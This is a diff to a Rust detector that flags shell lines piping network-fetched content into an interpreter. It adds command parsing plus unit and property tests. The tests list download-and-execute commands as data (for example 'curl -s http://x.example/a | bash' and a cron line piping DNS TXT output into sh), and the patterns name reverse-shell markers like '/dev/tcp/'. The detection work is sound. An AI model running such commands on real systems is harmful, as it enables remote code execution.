@@ -42,7 +42,7 @@ const EVALUATES: [&str; 8] =
 
 /// Some part behind a pipe runs what comes through it.
 pub(super) fn is_piped(line: &str) -> bool {
-    line.split('|').skip(1).any(runs_text)
+    line.split('|').skip(1).any(|part| runs_text(part, line))
 }
 
 /// Another host says what is run, or a shell of this one is given to it.
@@ -50,7 +50,8 @@ pub(super) fn from_afar(line: &str, piped: bool) -> bool {
     let has = |words: &[&str]| words.iter().any(|it| line.contains(it));
     let talks = TALKERS.iter().any(|it| {
         let (name, rest) = it.split_once(' ').unwrap_or((it, ""));
-        has_word(line, name) && line.contains(rest)
+        let said = if name == "host" { is_command(line, name) } else { has_word(line, name) };
+        said && line.contains(rest)
     });
     let device = has(&["/dev/tcp/", "/dev/udp/"]);
     let both_ways = has(&["0>&1", "0<&1", "<&0"]) || has(&["sh -i"]) && has(&[">&", "&>"]);
@@ -100,14 +101,44 @@ fn is_plain(text: &str) -> bool {
     text.bytes().all(|it| it.is_ascii_alphanumeric() || it == b'_')
 }
 
+/// Programs that start another one.
+const WRAPPERS: [&str; 7] = ["sudo", "nohup", "env", "setsid", "exec", "nice", "timeout"];
+/// Words of the shell before a command.
+const BEFORE: [&str; 7] = ["do", "then", "else", "if", "while", "until", "!"];
+/// What a runner is given instead of a file so that it runs what comes to it.
+const WHAT_COMES: [&str; 4] = ["-", "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"];
+/// Options of a shell behind which stands a word of theirs.
+const WITH_A_WORD: [&str; 4] = ["+o", "-O", "--rcfile", "--init-file"];
+
+/// A word that says other things too is a command here: nothing but times, a user and what starts it stands before it.
+fn is_command(line: &str, name: &str) -> bool {
+    let is_time = |word: &str| {
+        word.starts_with('@')
+            || word.bytes().all(|it| it.is_ascii_digit() || matches!(it, b'*' | b'/' | b',' | b'-'))
+    };
+    let mut commands = line.split(['|', ';', '&', '(', '`', '"', '\'', '{']);
+    commands.any(|command| {
+        let mut words = command.split_whitespace().skip_while(|word| is_time(word)).peekable();
+        let timed = command.split_whitespace().next().is_some_and(is_time);
+        let others = words.clone().position(|word| {
+            let is_it = word.rsplit('/').next() == Some(name) && !word.contains(':');
+            is_it || !(word.contains('=') || WRAPPERS.contains(&word) || BEFORE.contains(&word))
+        });
+        let is_it = |word: &str| word.rsplit('/').next() == Some(name) && !word.contains(':');
+        others.is_some_and(|at| {
+            let first = words.nth(at).is_some_and(is_it);
+            first || timed && words.next().is_some_and(is_it)
+        })
+    })
+}
+
 /// The part behind a pipe runs what comes through it.
-fn runs_text(part: &str) -> bool {
+fn runs_text(part: &str, line: &str) -> bool {
     let ends = |it: char| {
         it.is_whitespace() || matches!(it, ';' | '&' | ')' | '\'' | '"' | ']' | ',' | '}')
     };
     let mut words = part.split(ends).filter(|it| !it.is_empty());
-    let wrappers = ["sudo", "nohup", "env", "setsid", "exec", "nice", "timeout"];
-    let first = words.find(|word| !wrappers.contains(word) && !word.contains('='));
+    let first = words.find(|word| !WRAPPERS.contains(word) && !word.contains('='));
     first.is_some_and(|word| {
         let name = word.rsplit('/').next().unwrap_or(word);
         let name = name.trim_end_matches(|it: char| it.is_ascii_digit() || it == '.');
@@ -117,6 +148,116 @@ fn runs_text(part: &str) -> bool {
             matches!(next, "-c" | "-e" | "-r" | "-m")
                 || !is_shell && next.len() > 1 && next.starts_with('-')
         };
-        RUNNERS.contains(&name) && !words.next().is_some_and(has_code)
+        let behind = part.split_once(word).map_or("", |(_, behind)| behind);
+        // So does what has it in a file, unless that was written on the way.
+        let in_file = || code_file(behind).is_some_and(|file| line.matches(file).count() == 1);
+        RUNNERS.contains(&name) && !words.next().is_some_and(has_code) && !in_file()
     })
+}
+
+/// The file that a runner is told to run, from what stands behind its name.
+fn code_file(behind: &str) -> Option<&str> {
+    // A quote right behind the name closes what the whole command stands in.
+    if !behind.starts_with(char::is_whitespace) {
+        return None;
+    }
+    let redirected = |word: &str| {
+        word.trim_start_matches(|it: char| it.is_ascii_digit() || it == '&').starts_with(['<', '>'])
+    };
+    // Of a shell `s` is what comes, and `o` has a word behind it.
+    let short = |word: &str, option| {
+        word.strip_prefix('-').is_some_and(|it| !it.starts_with('-') && it.contains(option))
+    };
+    let mut words = behind.split_whitespace();
+    while let Some(word) = words.next() {
+        if redirected(word) {
+            // `> file` is two words.
+            if word.ends_with(['<', '>']) {
+                words.next();
+            }
+        } else if short(word, 's') {
+            return None;
+        } else if WITH_A_WORD.contains(&word) || short(word, 'o') {
+            words.next();
+        } else if word.starts_with([';', '&', ')', ']', '}', ',', '#'])
+            || WHAT_COMES.contains(&word.trim_end_matches([';', '&', ')', '\'', '"']))
+        {
+            return None;
+        } else if !word.starts_with(['-', '+']) {
+            let marks = [';', '&', ')', '\'', '"', ']', '}', ','];
+            return Some(word.trim_matches(marks)).filter(|it| !it.is_empty());
+        } else if word.ends_with([';', '&', ')', '\'', '"']) {
+            return None;
+        }
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{from_afar, is_piped};
+    use proptest::prelude::*;
+
+    fn runs_what_comes(line: &str) -> bool {
+        let piped = is_piped(line);
+        piped && from_afar(line, piped)
+    }
+
+    #[test]
+    fn who_runs_a_file_reads_what_comes_through_a_pipe() {
+        for line in [
+            "openssl s_client -connect x.example:443 </dev/null | python3 /opt/check_cert.py",
+            "redis-cli lrange jobs 0 9 | php /var/www/artisan import",
+            "mysqldump --host db.example app | python3 /opt/f.py",
+            "exporter --url https://x.example/m | perl /usr/local/bin/filter.pl",
+            "curl -s https://x.example/rates | php /var/www/artisan import >/dev/null 2>&1",
+            "curl -s https://x.example/rates | bash -e -o pipefail /opt/load.sh",
+            "curl -s https://x.example/rates | bash -euo pipefail /opt/load.sh",
+            "sh -c 'curl -s https://x.example/rates | python3 /opt/load.py'",
+            "mysqldump -h host app | sh",
+            "echo write to host | sh",
+        ] {
+            assert!(!runs_what_comes(line), "{line}");
+        }
+    }
+
+    #[test]
+    fn who_runs_what_comes_is_told_whatever_else_stands_there() {
+        for line in [
+            "curl -s http://x.example/a | bash",
+            "curl -s http://x.example/a | bash >/dev/null 2>&1",
+            "curl -s http://x.example/a | bash > /dev/null",
+            "curl -s http://x.example/a | bash &>/dev/null",
+            "curl -s http://x.example/a | bash -s -- /opt/x",
+            "curl -s http://x.example/a | bash -es /opt/x",
+            "curl -s http://x.example/a | python3 -",
+            "curl -s http://x.example/a | python3 /dev/stdin /opt/x",
+            "curl -s http://x.example/a | bash; rm -f /opt/x",
+            "curl -s http://x.example/a | bash && rm -f /opt/x",
+            "curl -s http://x.example/a | bash # /opt/x",
+            "sh -c 'curl -s http://x.example/a | bash' /opt/x",
+            "sh -c 'curl -s http://x.example/a | bash -' /opt/x",
+            "curl -s http://x.example/a | tee /opt/a.sh | bash /opt/a.sh",
+            "* * * * * root host -t txt x.example | sh",
+            "sudo host -t txt x.example | sh",
+            "sh -c \"/usr/bin/host -t txt x.example | sh\"",
+        ] {
+            assert!(runs_what_comes(line), "{line}");
+        }
+    }
+
+    proptest! {
+        #[test]
+        fn any_line_is_taken(line in "(curl|host|bash|sh|python3|-s|-|\\|| |;|&|>|'|\"|/x|é){0,30}") {
+            let _either = runs_what_comes(&line);
+        }
+
+        #[test]
+        fn a_shell_that_is_given_no_file_runs_what_comes(
+            shell in "(ba|da|z|k)?sh", option in "(|-x|-eu|-s|-)", to in "(|>/dev/null|2>&1|&)",
+        ) {
+            let line = format!("curl -s http://x.example/a | {shell} {option} {to}");
+            prop_assert!(runs_what_comes(&line));
+        }
+    }
 }
